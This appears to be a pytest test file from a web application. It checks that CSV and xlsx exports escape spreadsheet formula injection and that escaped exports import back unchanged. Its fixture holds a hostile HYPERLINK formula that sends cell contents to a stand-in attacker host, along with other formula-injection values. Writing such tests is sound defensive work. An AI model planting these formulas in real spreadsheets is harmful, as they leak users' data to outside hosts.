"""Spreadsheet formulas in exports (#24, finding 4: ``=HYPERLINK(...)`` was written to CSV
and xlsx as a live formula).

Text cells starting with ``= + - @``, tab or CR are quoted (OWASP CSV injection); numbers
stay numbers; and the importer takes the quote off again, so an export imports back to the
original text.
"""

# ruff: noqa: F811 - the fixtures imported from tests.hostile.api_world are test arguments

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import delete, select
from sqlalchemy.orm import Session

from firegrid.accounts.models import UserVenue
from firegrid.accounts.principal import system_principal
from firegrid.core.db import Database
from firegrid.devices.models import Device
from firegrid.places.importexport import import_rows, read_rows, render
from firegrid.places.models import Venue
from tests.hostile.api_world import (  # noqa: F401 - fixtures
    _cheap_password_hashing,
    admin,
    app,
    city,
    client,
)

HOSTILE = {
    "code": "HX-1",
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "address": "+86 769 1234 5678",
    "contact_name": "@SUM(1+1)",
    "contact_phone": "-5",
    "industry_code": "'=already",
    "tags": ["-x", "=1+2", "plain"],
}
TEXT_FIELDS = ("name", "address", "contact_name", "contact_phone", "industry_code")


def _create_hostile_venue(client: TestClient, admin: dict[str, str]) -> None:
    body = {**HOSTILE, "lon": 113.05, "lat": 23.1, "category": "school", "floor_area_m2": 1234.5}
    created = client.post("/api/v1/venues", json=body, headers=admin)
    assert created.status_code == 201, created.text


def _export(client: TestClient, admin: dict[str, str], fmt: str) -> bytes:
    response = client.get(f"/api/v1/exports/venues?format={fmt}", headers=admin)
    assert response.status_code == 200, response.text
    return response.content


def test_csv_export_quotes_formula_text(client: TestClient, admin: dict[str, str]):
    _create_hostile_venue(client, admin)
    rows = list(csv.DictReader(io.StringIO(_export(client, admin, "csv").decode("utf-8-sig"))))
    row = next(r for r in rows if r["code"] == "HX-1")
    assert row["name"] == "'" + HOSTILE["name"]
    assert row["address"] == "'+86 769 1234 5678"
    assert row["contact_name"] == "'@SUM(1+1)"
    assert row["contact_phone"] == "'-5"
    assert row["industry_code"] == "''=already"  # an existing quote is kept, one more added
    assert row["tags"] == "'-x;=1+2;plain"
    assert row["floor_area_m2"] == "1234.5"  # numbers untouched
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())


def test_xlsx_export_writes_text_not_formulas(client: TestClient, admin: dict[str, str]):
    _create_hostile_venue(client, admin)
    workbook = load_workbook(io.BytesIO(_export(client, admin, "xlsx")))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = {
        header[i]: cell
        for row in sheet.iter_rows(min_row=2)
        if row[header.index("code")].value == "HX-1"
        for i, cell in enumerate(row)
    }
    assert all(cell.data_type != "f" for cell in cells.values())
    assert cells["name"].value == "'" + HOSTILE["name"]
    assert cells["floor_area_m2"].value == 1234.5
    assert not any(cell.data_type == "f" for row in sheet.iter_rows(min_row=2) for cell in row), (
        "no formula anywhere in the sheet"
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_imports_back_to_the_original_text(
    client: TestClient, admin: dict[str, str], db: Database, fmt: str
):
    _create_hostile_venue(client, admin)
    exported = _export(client, admin, fmt)
    with Session(db.engine) as session:
        before = {v.code: _texts(v) for v in session.scalars(select(Venue))}
        # Import the export into the emptied table (rolled back at the end).
        session.execute(delete(UserVenue))
        session.execute(delete(Device))
        session.execute(delete(Venue))
        report = import_rows(
            session, "venues", read_rows(exported, fmt), principal=system_principal("t")
        )
        assert report["created"] == len(before)
        after = {v.code: _texts(v) for v in session.scalars(select(Venue))}
        session.rollback()
    assert after == before
    assert after["HX-1"]["name"] == HOSTILE["name"]
    assert after["HX-1"]["tags"] == HOSTILE["tags"]


def _texts(venue: Venue) -> dict[str, Any]:
    values: dict[str, Any] = {name: getattr(venue, name) for name in TEXT_FIELDS}
    values["tags"] = list(venue.tags or [])
    values["floor_area_m2"] = venue.floor_area_m2
    return values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_negative_numbers_stay_numbers_and_text_stays_text(fmt: str):
    records = [{"code": "-5", "flow_lps": -5, "height_m": -2.5, "note": "-5"}]
    (row,) = read_rows(render(records, fmt), fmt)
    assert row.values["code"] == "-5"
    assert row.values["note"] == "-5"
    # CSV has no types: the number comes back as the text the schema reads as a number.
    assert row.values["flow_lps"] in (-5, "-5")
    assert float(row.values["height_m"]) == -2.5
    if fmt == "xlsx":
        assert row.values["flow_lps"] == -5
